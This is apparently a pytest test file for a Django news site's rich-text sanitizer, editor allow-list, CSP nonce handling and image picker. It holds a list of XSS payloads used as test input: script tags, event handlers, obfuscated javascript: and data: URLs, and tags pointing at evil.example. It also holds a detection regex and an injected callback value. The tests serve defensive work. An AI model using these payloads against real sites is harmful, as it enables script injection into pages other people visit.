"""Rich text: the admin's editor under the strict CSP, the allow-list, the image picker."""

from __future__ import annotations

import re

import pytest
from django.urls import reverse
from django_prose_editor.config import allowlist_from_extensions

from cooperation.editor import EDITOR_EXTENSIONS
from cooperation.richtext import sanitize_html
from news.models import Article, Image
from news.resources import RichTextWidget
from tests import factories as f
from tests.admin_helpers import admin_url
from tests.news.images import SVG, jpeg, upload
from tests.pages import url

# Each of these must lose everything that could run code, load a frame or restyle the page.
HOSTILE_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    '<img src="/media/x.jpg" onerror=alert(1)>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x61;script:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="http://tracker.example/pixel.gif">',
    '<img src="//evil.example/x.png">',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<svg onload="alert(1)"><circle r="4"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<p style="position:fixed;top:0">overlay</p>',
    "<style>body{display:none}</style>",
    '<div onclick="alert(1)">x</div>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<p><a href="https://ok.example" target="_blank" onmouseover="alert(1)">ok</a></p>',
    "<!--<script>alert(1)</script>-->",
    '<table><tr><td background="javascript:alert(1)">cell</td></tr></table>',
    '<img src="https://ok.example/a.png" srcset="javascript:alert(1) 1x">',
]
FORBIDDEN = re.compile(
    r"<script|<iframe|<object|<embed|<svg|<style|<form|<meta|<base|<link|<math"
    r"|\son\w+=|style=|javascript:|data:|srcset|http://|//evil",
    re.IGNORECASE,
)


@pytest.mark.parametrize("html", HOSTILE_HTML)
def test_hostile_html_is_disarmed(html):
    assert not FORBIDDEN.search(sanitize_html(html)), sanitize_html(html)


@pytest.mark.django_db
@pytest.mark.parametrize("html", HOSTILE_HTML)
def test_hostile_html_never_reaches_the_article_page(client, html):
    article = f.ArticleFactory(body_en=f"<p>Before</p>{html}<p>After</p>")
    response = client.get(url("news:article-detail", "en", slug=article.slug))
    prose = response.text.split('<div class="prose">', 1)[1].split("</div>", 1)[0]
    assert "Before" in prose  # (an unclosed hostile element may swallow what follows)
    assert not FORBIDDEN.search(prose), prose


def test_what_the_editor_makes_survives_the_allow_list():
    html = (
        "<h2>Title</h2><h3>Part</h3><p><strong>b</strong> <em>i</em> <u>u</u> <s>s</s> "
        'H<sub>2</sub>O x<sup>2</sup> <a href="https://www.cdu.edu.cn/">link</a></p>'
        "<ul><li><p>one</p></li></ul><ol><li><p>two</p></li></ol><blockquote><p>q</p></blockquote>"
        '<table><colgroup><col><col></colgroup><tbody><tr><th colspan="1" rowspan="1"><p>h</p>'
        '</th></tr><tr><td colspan="1" rowspan="1"><p>d</p></td></tr></tbody></table>'
        '<figure><img src="/media/library/a_1600x900.w1600.webp" alt="Lab">'
        "<figcaption>Caption</figcaption></figure><hr>"
    )
    clean = sanitize_html(html)
    for kept in [
        "<h2>Title</h2>",
        "<h3>Part</h3>",
        "<sub>2</sub>",
        '<a href="https://www.cdu.edu.cn/" rel="noopener noreferrer">link</a>',
        "<ul><li><p>one</p></li></ul>",
        "<ol>",
        "<blockquote>",
        "<colgroup><col><col></colgroup>",
        '<th colspan="1" rowspan="1">',
        '<img src="/media/library/a_1600x900.w1600.webp" alt="Lab">',
        "<figcaption>Caption</figcaption>",
        "<hr>",
    ]:
        assert kept in clean, kept


# What the editor can show and edit (b and i it reads as strong and em).
EDITOR_TAGS = allowlist_from_extensions(EDITOR_EXTENSIONS)["tags"] | {"b", "i"}


def tags_in(html: str) -> set[str]:
    return {tag.lower() for tag in re.findall(r"<([a-zA-Z][a-zA-Z0-9]*)", html)}


def test_block_containers_become_paragraphs_never_run_together():
    assert sanitize_html("<div>段落一</div><div>段落二</div>") == "<p>段落一</p><p>段落二</p>"
    old_site = (
        "<section><header>导语</header><article><div>第一段<p>第二段</p>第三段</div>"
        "<aside><div>附注</div></aside></article><footer>来源</footer></section>"
        "<ul><li><div>甲</div><div>乙</div></li></ul>"
        "<table><tr><td><div>丙</div><div>丁</div></td></tr></table>"
        "<dl><dt>术语</dt><dd>释义</dd></dl>"
    )
    clean = sanitize_html(old_site)
    assert clean == (
        "<p>导语</p><p>第一段</p><p>第二段</p><p>第三段</p><p>附注</p><p>来源</p>"
        "<ul><li><p>甲</p><p>乙</p></li></ul>"
        "<table><tbody><tr><td><p>丙</p><p>丁</p></td></tr></tbody></table>"
        "<p>术语</p><p>释义</p>"
    )
    assert tags_in(clean) <= EDITOR_TAGS
    assert sanitize_html(clean) == clean  # a re-import or a second save compares equal


def test_containers_where_a_paragraph_cannot_stand_become_lines():
    assert sanitize_html("<h2><div>一</div><div>二</div></h2>") == "<h2>一<br>二</h2>"
    assert (
        sanitize_html(
            '<figure><div><img src="/media/a.jpg" alt="实验室"></div>'
            "<figcaption><div>左</div><div>右</div></figcaption></figure>"
        )
        == '<figure><img src="/media/a.jpg" alt="实验室"><figcaption>左<br>右</figcaption></figure>'
    )


def test_headings_the_editor_lacks_become_the_nearest_it_offers():
    assert sanitize_html("<h1>大标题</h1><p>正文</p>") == "<h2>大标题</h2><p>正文</p>"
    assert sanitize_html("<h5>小节</h5><h6>更小</h6>") == "<h4>小节</h4><h4>更小</h4>"
    assert sanitize_html("<h3>保留</h3>") == "<h3>保留</h3>"


@pytest.mark.parametrize(
    "image",
    [
        '<img src="images/old.jpg" alt="图">',
        '<img src="/uploads/old.jpg" alt="图">',
        '<img src="http://www.example.edu.cn/old.jpg" alt="图">',
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="图">',
        '<img alt="图">',
    ],
)
def test_an_image_whose_address_is_refused_is_removed_not_kept_without_one(image):
    assert sanitize_html(f"<p>前{image}后</p>") == "<p>前后</p>"
    # A figure without its image is its caption's text.
    figure = f"<figure>{image}<figcaption>图注</figcaption></figure>"
    assert sanitize_html(figure) == "<p>图注</p>"


def test_every_kept_image_has_a_text_alternative():
    # Without one given, an empty alt marks it decorative (no bare <img>: axe image-alt).
    assert sanitize_html('<p><img src="/media/library/a.webp"></p>') == (
        '<p><img src="/media/library/a.webp" alt=""></p>'
    )
    assert sanitize_html('<img src="https://www.cdu.edu.cn/a.png" alt="校门">') == (
        '<img src="https://www.cdu.edu.cn/a.png" alt="校门">'
    )


def test_the_news_import_keeps_an_old_page_s_structure():
    body = RichTextWidget().clean(
        '<div>段落一</div><div>段落二<img src="/upload/x.jpg"></div><h1>标题</h1>'
    )
    assert body == "<p>段落一</p><p>段落二</p><h2>标题</h2>"


@pytest.mark.django_db
def test_the_article_form_has_the_rich_text_editor_with_a_csp_nonce(admin_client):
    response = admin_client.get(admin_url(Article, "add"))
    assert response.status_code == 200
    text = response.text
    assert text.count("data-django-prose-editor-configurable") == 2  # one per language
    config = re.search(r'data-django-prose-editor-configurable="([^"]+)"', text)[1]
    for extension in ["Heading", "BulletList", "OrderedList", "Link", "Table", "Figure"]:
        assert f"&quot;{extension}&quot;" in config, extension
    assert reverse("admin:news_image_picker") in config
    importmap = re.search(r"<script[^>]*type=\"importmap\"[^>]*>", text)[0]
    nonce = re.search(r'nonce="([^"]+)"', importmap)[1]
    assert f"'nonce-{nonce}'" in response.headers["Content-Security-Policy"]
    for tag in re.findall(r"<script[^>]*>", text):
        assert "src=" in tag or "nonce=" in tag, tag  # no inline script without the nonce


@pytest.mark.django_db
def test_the_picker_lists_the_library_and_uploads_with_the_same_checks(admin_client, admin_user):
    picker = reverse("admin:news_image_picker") + "?language=en&CKEditorFuncNum=-3"
    response = admin_client.post(
        picker,
        {"file": jpeg(2000, 1000), "alt_text_zh_hans": "实验室", "alt_text_en": "Laboratory"},
    )
    assert response.status_code == 302
    assert response.url.endswith("?language=en&CKEditorFuncNum=-3")
    image = Image.objects.get()
    assert image.uploaded_by == admin_user
    assert (image.alt_text_zh_hans, image.alt_text_en) == ("实验室", "Laboratory")
    assert image.body_url.endswith(".w1600.webp")

    response = admin_client.get(picker)
    assert response.status_code == 200
    assert 'data-func-num="-3"' in response.text
    assert f'data-url="{image.body_url}"' in response.text
    assert 'data-alt="Laboratory"' in response.text

    response = admin_client.post(
        picker,
        {"file": upload(SVG, "x.svg", "image/svg+xml"), "alt_text_zh_hans": "标志"},
        HTTP_ACCEPT_LANGUAGE="en",
    )
    assert response.status_code == 400
    assert "not a JPEG, PNG or WebP image" in response.text
    assert Image.objects.count() == 1


@pytest.mark.django_db
def test_the_picker_ignores_a_forged_callback_number(admin_client):
    picker = reverse("admin:news_image_picker")
    response = admin_client.get(picker, {"CKEditorFuncNum": '1");alert(1);//'})
    assert 'data-func-num=""' in response.text
    assert "alert(1)" not in response.text


@pytest.mark.django_db
def test_the_picker_is_for_staff_with_permission_only(client):
    picker = reverse("admin:news_image_picker")
    assert client.get(picker).status_code == 302  # to the login page
    reader = f.UserFactory(is_staff=True)
    client.force_login(reader)
    assert client.get(picker).status_code == 403
    assert client.post(picker, {"alt_text": "x"}).status_code == 403
